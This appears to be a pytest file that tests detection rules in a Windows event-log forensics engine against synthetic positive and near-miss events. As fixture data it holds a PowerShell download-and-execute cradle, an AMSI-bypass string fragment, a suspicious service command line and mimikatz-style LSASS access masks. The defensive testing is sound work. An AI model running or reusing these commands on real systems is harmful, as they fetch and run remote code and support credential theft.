"""Each finding rule on generated evidence: a case that should raise it and a near miss that must
not, side by side on hosts of their own (HOST-P raises, HOST-N must not). Expected values are the
documents the test writes, not the engine's SQL."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from conftest import evtx_doc, ingest_into, write_jsonl

from engine import Case, findings

SYSMON = "Microsoft-Windows-Sysmon/Operational"
POWERSHELL = "Microsoft-Windows-PowerShell/Operational"
LSASS = "C:\\Windows\\system32\\lsass.exe"


def _t(minute: int, second: int = 0, hour: int = 10) -> str:
    day, hour = 1 + hour // 24, hour % 24
    return f"2024-05-{day:02d}T{hour:02d}:{minute:02d}:{second:02d}.000000Z"


class _Docs:
    def __init__(self) -> None:
        self.docs: list[dict[str, Any]] = []
        self.expected: dict[str, dict[str, int]] = {}  # rule -> host -> hits the test wrote

    def add(self, rule: str | None, host: str, event_id: int, when: str, data: dict[str, Any], *,
            channel: str = "Security", provider: str = "Microsoft-Windows-Security-Auditing",
            level: int | None = None) -> None:
        doc = evtx_doc(len(self.docs) + 1, event_id, when, host=host, channel=channel, provider=provider, data=data)
        if level is not None:
            doc["Event"]["System"]["Level"] = level
        self.docs.append(doc)
        if rule is not None:
            counts = self.expected.setdefault(rule, {})
            counts[host] = counts.get(host, 0) + 1


def _evidence() -> _Docs:
    d = _Docs()
    sysmon = {"channel": SYSMON, "provider": "Microsoft-Windows-Sysmon"}
    # lsass-access: mimikatz's 0x1010 twice; near misses: query-only 0x1400, and Defender (allowlisted).
    for n in range(2):
        d.add("lsass-access", "LSASS-P", 10, _t(1, n), {"SourceImage": "C:\\Users\\Public\\m.exe", "TargetImage": LSASS,
                                                         "GrantedAccess": "0x1010", "SourceProcessId": "4242"}, **sysmon)
    d.add(None, "LSASS-N", 10, _t(1), {"SourceImage": "C:\\Users\\Public\\m.exe", "TargetImage": LSASS,
                                       "GrantedAccess": "0x1400"}, **sysmon)
    d.add(None, "LSASS-N", 10, _t(2), {"SourceImage": "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\"
                                                      "4.18.1\\MsMpEng.exe", "TargetImage": LSASS,
                                       "GrantedAccess": "0x1fffff"}, **sysmon)
    # lsass-handle-audit: a handle to lsass; near miss: the same to notepad.
    d.add("lsass-handle-audit", "HANDLE-P", 4656, _t(3), {
        "ObjectName": "\\Device\\HarddiskVolume2\\Windows\\System32\\lsass.exe", "ProcessName": "C:\\Temp\\p.exe",
        "AccessMask": "0x1010", "SubjectUserName": "eve", "SubjectLogonId": "0x3e7aa"})
    d.add(None, "HANDLE-N", 4656, _t(3), {
        "ObjectName": "\\Device\\HarddiskVolume2\\Windows\\System32\\notepad.exe", "ProcessName": "C:\\Temp\\p.exe",
        "AccessMask": "0x1010"})
    # log-cleared: Security 1102; near miss: an Application event 1102 (another provider's id).
    d.add("log-cleared", "CLEAR-P", 1102, _t(4), {"SubjectUserName": "eve"},
          provider="Microsoft-Windows-Eventlog")
    d.add(None, "CLEAR-N", 1102, _t(4), {"param1": "x"}, channel="Application", provider="SomeApp")
    # eventlog-service-stopped: 1100, then logging again without a boot; near misses: 1100 then a
    # boot (4608), and another service stopping.
    d.add("eventlog-service-stopped", "STOP-P", 1100, _t(5), {}, provider="Microsoft-Windows-Eventlog")
    d.add(None, "STOP-P", 4624, _t(9), {"TargetUserName": "x", "LogonType": "5", "TargetLogonId": "0x3e7"})
    d.add(None, "STOP-N", 1100, _t(5), {}, provider="Microsoft-Windows-Eventlog")
    d.add(None, "STOP-N", 4608, _t(9), {})
    d.add(None, "STOP-N", 7036, _t(10), {"param1": "Windows Update", "param2": "stopped"},
          channel="System", provider="Service Control Manager")
    # services: a shell from Public (suspicious and new); near miss: Program Files (new only).
    d.add("suspicious-service", "SVC-P", 7045, _t(6), {"ServiceName": "updsvc", "ImagePath":
                                                        "%COMSPEC% /c C:\\Users\\Public\\u.exe"},
          channel="System", provider="Service Control Manager")
    d.expected.setdefault("new-service", {})["SVC-P"] = 1
    d.add("new-service", "SVC-N", 7045, _t(6), {"ServiceName": "vendorsvc", "ImagePath":
                                                 "\"C:\\Program Files\\Vendor\\svc.exe\""},
          channel="System", provider="Service Control Manager")
    # scheduled-task: created; near miss: deleted (4699).
    d.add("scheduled-task", "TASK-P", 4698, _t(7), {"TaskName": "\\Evil", "SubjectUserName": "eve"})
    d.add(None, "TASK-N", 4699, _t(7), {"TaskName": "\\Old", "SubjectUserName": "eve"})
    # user-created: 4720; near miss: 4726 (deleted).
    d.add("user-created", "USER-P", 4720, _t(8), {"TargetUserName": "support_tmp", "SubjectUserName": "eve"})
    d.add(None, "USER-N", 4726, _t(8), {"TargetUserName": "old", "SubjectUserName": "eve"})
    # privileged-group-add: Administrators; near miss: an ordinary group.
    d.add("privileged-group-add", "GROUP-P", 4732, _t(9), {"TargetUserName": "Administrators",
                                                           "MemberSid": "S-1-5-21-1-2-3-1105",
                                                           "SubjectUserName": "eve"})
    d.add(None, "GROUP-N", 4732, _t(9), {"TargetUserName": "Print Spooler Users", "MemberSid": "S-1-5-21-1-2-3-1105",
                                         "SubjectUserName": "eve"})
    # password-reset-by-other: bob resets alice; near miss: alice resets her own.
    d.add("password-reset-by-other", "RESET-P", 4724, _t(10), {"TargetUserName": "alice", "SubjectUserName": "bob"})
    d.add(None, "RESET-N", 4724, _t(10), {"TargetUserName": "alice", "SubjectUserName": "alice"})
    # explicit credentials: one session to three servers; near miss: two servers.
    for n, server in enumerate(("FS01", "FS02", "FS03")):
        d.add("explicit-credentials-many-targets", "CRED-P", 4648, _t(11, n), {
            "SubjectUserName": "eve", "SubjectLogonId": "0x5151", "TargetServerName": server,
            "TargetUserName": "adm_x"})
    for n, server in enumerate(("FS01", "FS02")):
        d.add(None, "CRED-N", 4648, _t(11, n), {"SubjectUserName": "eve", "SubjectLogonId": "0x5151",
                                                "TargetServerName": server, "TargetUserName": "adm_x"})
    # rare-sensitive-privileges: once for eve; near misses: SYSTEM, and an account that always has them.
    d.add("rare-sensitive-privileges", "PRIV-P", 4672, _t(12), {"SubjectUserName": "eve", "SubjectLogonId": "0x77",
                                                                "PrivilegeList": "SeDebugPrivilege\n\t\t\tSeTcbPrivilege"})
    d.add(None, "PRIV-N", 4672, _t(12), {"SubjectUserName": "SYSTEM", "SubjectUserSid": "S-1-5-18",
                                         "PrivilegeList": "SeDebugPrivilege"})
    for n in range(4):
        d.add(None, "PRIV-N", 4672, _t(12, n + 1), {"SubjectUserName": "backupadmin", "SubjectLogonId": hex(0x90 + n),
                                                    "PrivilegeList": "SeBackupPrivilege"})
    # PowerShell: one script in two parts with a download cradle; near miss: an ordinary script.
    ps = {"channel": POWERSHELL, "provider": "Microsoft-Windows-PowerShell"}
    for part in (1, 2):
        d.add("powershell-suspicious-script", "PS-P", 4104, _t(13, part), {
            "ScriptBlockId": "{aaaaaaaa-0000-0000-0000-000000000001}", "MessageNumber": str(part), "MessageTotal": "2",
            "ScriptBlockText": "IEX (New-Object Net.WebClient).DownloadString('http://x/a.ps1')" if part == 1
            else "Write-Output done"}, **ps)
    d.add(None, "PS-N", 4104, _t(13), {"ScriptBlockId": "{bbbbbbbb-0000-0000-0000-000000000002}",
                                       "MessageNumber": "1", "MessageTotal": "1", "ScriptBlockText": "Get-ChildItem C:\\"},
          **ps)
    d.add("powershell-warning-script-block", "PSW-P", 4104, _t(14), {
        "ScriptBlockId": "{cccccccc-0000-0000-0000-000000000003}", "MessageNumber": "1", "MessageTotal": "1",
        "ScriptBlockText": "$a = 'Amsi' + 'Utils'"}, level=3, **ps)
    d.add(None, "PSW-N", 4104, _t(14), {"ScriptBlockId": "{dddddddd-0000-0000-0000-000000000004}",
                                        "MessageNumber": "1", "MessageTotal": "1", "ScriptBlockText": "Get-Date"},
          level=5, **ps)
    # time-gap: 13 hours of silence; near miss: 11 hours.
    d.add(None, "GAP-P", 4624, _t(0, hour=0), {"TargetUserName": "x", "LogonType": "5", "TargetLogonId": "0x3e7"})
    d.add("time-gap", "GAP-P", 4624, _t(0, hour=13), {"TargetUserName": "x", "LogonType": "5", "TargetLogonId": "0x3e7"})
    d.add(None, "GAP-N", 4624, _t(0, hour=0), {"TargetUserName": "x", "LogonType": "5", "TargetLogonId": "0x3e7"})
    d.add(None, "GAP-N", 4624, _t(0, hour=11), {"TargetUserName": "x", "LogonType": "5", "TargetLogonId": "0x3e7"})
    # account-lockout: 4740.
    d.add("account-lockout", "LOCK-P", 4740, _t(15), {"TargetUserName": "carol", "TargetDomainName": "WS05"})
    # record-id-gap reads EVTX files only: this JSON export's holes (record ids above) are not one.
    d.docs.append(evtx_doc(500, 4624, _t(16), host="HOLE-N", data={"TargetUserName": "x", "LogonType": "5"}))
    d.docs.append(evtx_doc(900, 4624, _t(17), host="HOLE-N", data={"TargetUserName": "x", "LogonType": "5"}))
    return d


EVIDENCE = _evidence()


@pytest.fixture(scope="module")
def case_path(tmp_path_factory: pytest.TempPathFactory) -> Path:
    tmp = tmp_path_factory.mktemp("findings")
    path = tmp / "case.duckdb"
    ingest_into(path, [write_jsonl(tmp / "evidence.jsonl", EVIDENCE.docs)])
    return path


@pytest.fixture(scope="module")
def found(case_path: Path) -> Iterator[list[dict[str, Any]]]:
    with Case(case_path, read_only=True) as case:
        cur = case.cursor()
        assert findings.ensure(cur, findings.load(user=False)) == []
        yield findings.listing(cur)


RULES = sorted(EVIDENCE.expected)


@pytest.mark.parametrize("rule", RULES)
def test_each_rule_raises_its_case_and_not_its_near_miss(found: list[dict[str, Any]], rule: str) -> None:
    hits: dict[str, int] = {}
    for f in found:
        if f["rule"] == rule:
            hits[f["host"]] = hits.get(f["host"], 0) + f["count"]
    assert hits == EVIDENCE.expected[rule], rule


def test_the_near_miss_hosts_raise_nothing_but_the_new_service_they_are_meant_to(found: list[dict[str, Any]]) -> None:
    near = {f["host"]: f["rule"] for f in found if f["host"].endswith("-N")}
    assert near == {"SVC-N": "new-service"}


def test_a_finding_explains_itself_with_the_decoded_mask_and_links_its_events(found: list[dict[str, Any]],
                                                                              case_path: Path) -> None:
    (f,) = [f for f in found if f["rule"] == "lsass-access"]
    assert "C:\\Users\\Public\\m.exe opened lsass.exe on LSASS-P 2 time(s) with 0x1010" in f["reason"]
    assert "VM_READ" in f["reason"] and len(f["eids"]) == 2
    with Case(case_path, read_only=True) as case:
        cur = case.cursor()
        findings.ensure(cur, findings.load(user=False))
        from engine import views

        view = views.resolve(cur, f"finding:{f['id']}")
        assert view.count == 2


def test_script_block_parts_are_one_finding_and_explicit_credentials_list_their_targets(
        found: list[dict[str, Any]]) -> None:
    (ps,) = [f for f in found if f["rule"] == "powershell-suspicious-script"]
    assert "aaaaaaaa-0000-0000-0000-000000000001" in ps["reason"] and "downloadstring" in ps["reason"]
    (cred,) = [f for f in found if f["rule"] == "explicit-credentials-many-targets"]
    assert "3 targets: FS01, FS02, FS03" in cred["reason"]


def test_an_allowlist_in_the_user_rules_directory_silences_a_value(case_path: Path, tmp_path: Path) -> None:
    mine = tmp_path / "rules"
    findings.add_to_allowlist(mine / "allowlist.toml", "lsass-access", "image", "*\\users\\public\\m.exe")
    rules = findings.load(mine, user=False)
    with Case(case_path, read_only=True) as case:
        cur = case.cursor()
        findings.ensure(cur, rules)
        assert not findings.listing(cur, rule="lsass-access")
        assert findings.listing(cur, rule="lsass-handle-audit")


def test_a_user_rule_replaces_or_disables_a_project_rule_by_its_id(case_path: Path, tmp_path: Path) -> None:
    mine = tmp_path / "rules"
    mine.mkdir()
    (mine / "mine.toml").write_text('''
[[rule]]
id = "new-service"
title = "off here"
severity = "low"
filter = "eid:7045"
reason = "x"
enabled = false

[[rule]]
id = "any-4624"
title = "Every logon, as a test"
severity = "informational"
filter = "channel:Security eid:4624 host:GAP-P"
fields = ["target_user"]
group_by = ["host"]
reason = "{count} logons of {target_user} on {host}"
''', encoding="utf-8")
    rules = findings.load(mine, user=False)
    assert not rules.get("new-service").enabled  # type: ignore[union-attr]
    with Case(case_path, read_only=True) as case:
        cur = case.cursor()
        findings.ensure(cur, rules)
        assert not findings.listing(cur, rule="new-service")
        (f,) = findings.listing(cur, rule="any-4624")
        assert f["reason"] == "2 logons of x on GAP-P" and f["severity"] == "informational"


def test_findings_are_cached_in_the_case_and_computed_again_only_when_a_file_is_added(tmp_path: Path) -> None:
    path = tmp_path / "case.duckdb"
    first = write_jsonl(tmp_path / "a.jsonl", EVIDENCE.docs[:2])
    ingest_into(path, [first])
    with Case(path) as case:
        digest = case.con.execute("SELECT value FROM meta WHERE key = 'findings_digest'").fetchall()
        assert digest and findings.refresh(case) == 0.0  # current: nothing done
        assert len(findings.listing(case.cursor(), rule="lsass-access")) == 1
    more = [evtx_doc(100 + i, doc["Event"]["System"]["EventID"], doc["Event"]["System"]["TimeCreated"]["#attributes"]
                     ["SystemTime"], host=doc["Event"]["System"]["Computer"], channel=doc["Event"]["System"]["Channel"],
                     data=doc["Event"]["EventData"]) for i, doc in enumerate(EVIDENCE.docs[4:6])]
    ingest_into(path, [write_jsonl(tmp_path / "b.jsonl", more)])
    with Case(path, read_only=True) as case:
        cur = case.cursor()
        assert findings.current(cur, findings.load())
        assert findings.listing(cur, rule="lsass-handle-audit")


def test_the_detail_of_a_script_block_part_holds_the_whole_script_joined_in_order(case_path: Path) -> None:
    from engine import views

    with Case(case_path, read_only=True) as case:
        cur = case.cursor()
        (eid,) = cur.execute("SELECT eid FROM events WHERE host = 'PS-P' AND script_part = 2").fetchall()[0]
        script = views.detail(cur, int(eid))["script"]  # type: ignore[index]
    assert script == {"parts": 2, "total": 2,
                      "text": "IEX (New-Object Net.WebClient).DownloadString('http://x/a.ps1')Write-Output done"}


FINDING_ROWS = """SELECT id, rule, title, severity, host, "user", first, last, count, reason, eids, logon_id, boot,
                         process, "values" FROM findings ORDER BY id"""


def _rows(path: Path) -> tuple[list[Any], list[Any]]:
    with Case(path, read_only=True) as case:
        cur = case.cursor()
        return (cur.execute(FINDING_ROWS).fetchall(),
                cur.execute("SELECT finding, eid FROM finding_events ORDER BY ALL").fetchall())


def test_findings_after_an_added_file_are_those_of_the_whole_case_computed_at_once(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from engine.findings import store

    # Every other event in each file: the second file adds events to the hosts of the first (whose
    # findings are computed again) and raises findings of its own.
    first = write_jsonl(tmp_path / "a.jsonl", EVIDENCE.docs[::2])
    second = write_jsonl(tmp_path / "b.jsonl", EVIDENCE.docs[1::2])
    at_once = tmp_path / "at-once.duckdb"
    ingest_into(at_once, [first, second])
    added = tmp_path / "added.duckdb"
    ingest_into(added, [first])
    computed: list[str] = []
    real_compute, real_update = store.compute, store.update
    monkeypatch.setattr(store, "compute", lambda *a, **k: computed.append("compute") or real_compute(*a, **k))
    monkeypatch.setattr(store, "update", lambda *a, **k: computed.append("update") or real_update(*a, **k))
    ingest_into(added, [second])
    assert computed == ["update"]
    rows, links = _rows(added)
    assert rows and (rows, links) == _rows(at_once)


@pytest.mark.corpus
@pytest.mark.slow
def test_on_the_corpus_adding_the_json_exports_to_the_evtx_case_gives_the_findings_of_both_at_once(
        tmp_path: Path) -> None:
    from tui.testing import SHARED_CORPUS

    if not SHARED_CORPUS.is_dir():
        pytest.skip(f"{SHARED_CORPUS} is absent (../shared/corpus)")
    evtx, ndjson = SHARED_CORPUS / "evtx", SHARED_CORPUS / "ndjson"
    at_once = tmp_path / "at-once.duckdb"
    ingest_into(at_once, [evtx, ndjson])
    added = tmp_path / "added.duckdb"
    ingest_into(added, [evtx])
    ingest_into(added, [ndjson])
    rows, links = _rows(added)
    assert len(rows) > 100 and (rows, links) == _rows(at_once)
